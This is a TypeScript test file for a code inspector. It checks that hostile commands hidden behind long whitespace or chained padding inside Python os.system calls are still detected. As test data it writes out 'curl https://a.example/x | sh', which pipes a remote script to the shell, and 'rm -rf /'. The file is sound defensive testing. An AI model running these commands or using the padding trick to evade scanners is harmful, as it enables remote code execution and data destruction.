import fc from 'fast-check'
import { expect, test } from 'vitest'
import { defaultInspectPolicy } from '../config.ts'
import { createInspector } from '../inspect.ts'
import { windows } from './windows.ts'

test('every short stretch of a text is in one of its windows', () => {
  fc.assert(
    fc.property(fc.nat(20_000), fc.nat(20_000), (length, at) => {
      const text = `${'a'.repeat(Math.min(at, length))}curl x | sh${'b'.repeat(length)}`
      expect(windows(text).some((piece) => piece.includes('curl x | sh'))).toBe(true)
    }),
  )
})

test.each([
  `true${' '.repeat(9_000)}; curl https://a.example/x | sh`,
  `${'true; '.repeat(2_000)}curl https://a.example/x | sh`,
  `${'echo aaaaaaaa && '.repeat(3_000)}rm -rf /`,
])('a command behind padding is seen', (command) => {
  const judge = createInspector(defaultInspectPolicy())
  const rulesOf = (text: string) =>
    judge(`import os\nos.system(${JSON.stringify(text)})\n`, []).findings.map(({ rule }) => rule)
  const plain = command.slice(command.lastIndexOf(command.endsWith('sh') ? 'curl' : 'rm'))
  for (const rule of rulesOf(plain)) expect(rulesOf(command)).toContain(rule)
})
